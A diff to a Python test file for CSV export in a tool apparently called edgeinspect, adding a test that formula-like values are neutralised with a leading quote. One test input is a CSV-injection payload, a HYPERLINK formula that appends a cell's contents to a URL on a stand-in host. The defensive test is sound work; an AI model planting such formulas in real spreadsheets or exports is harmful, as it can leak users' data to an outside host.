@@ -22,6 +22,7 @@ from edgeinspect.cli.main import main
 from edgeinspect.domain.clock import NS_PER_MS, NS_PER_S
 from edgeinspect.domain.verdict import Decision
 from edgeinspect.errors import DataError, MissingExtraError, UsageError
+from edgeinspect.foreign_text import as_cell
 from edgeinspect.ledger import known
 from edgeinspect.ledger_format import SCHEMA_VERSION, pack, unpack
 from edgeinspect.ledger_query import (
@@ -537,7 +538,27 @@ def test_csv_comes_back_as_it_was(desk: Desk, tmp_path: Path) -> None:
     with target.open(newline="", encoding="utf-8") as file:
         head, *lines = csv.reader(file)
     assert tuple(head) == COLUMNS
-    assert lines == [["" if value is None else str(value) for value in row] for row in rows]
+    assert lines == [
+        ["" if value is None else str(as_cell(value)) for value in row] for row in rows
+    ]
+    assert lines[0][COLUMNS.index("part_id")] == 'a "quoted",\\r\\npart, é'
+
+
+@pytest.mark.parametrize(
+    "part", ['=HYPERLINK("http://x/?"&A1,"x")', "\t=1+1", "@x", "-2+3"]
+)
+def test_no_part_becomes_a_formula_of_a_table(desk: Desk, tmp_path: Path, part: str) -> None:
+    """The text stays what it was in JSON and Parquet; in CSV it is text for a spreadsheet too."""
+    desk.judge(1, part=part)
+    desk.writer.catch_up()
+    with closing(open_ledger(desk.path)) as base:
+        export_csv(base, Filter(), tmp_path / "out.csv")
+        (row,) = query(base, Filter())
+    assert row[COLUMNS.index("part_id")] == part
+    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as file:
+        cell = next(iter(csv.DictReader(file)))["part_id"]
+    assert cell.startswith("'")
+    assert cell.isprintable()
 
 
 def test_parquet_comes_back_as_it_was(desk: Desk, tmp_path: Path) -> None:
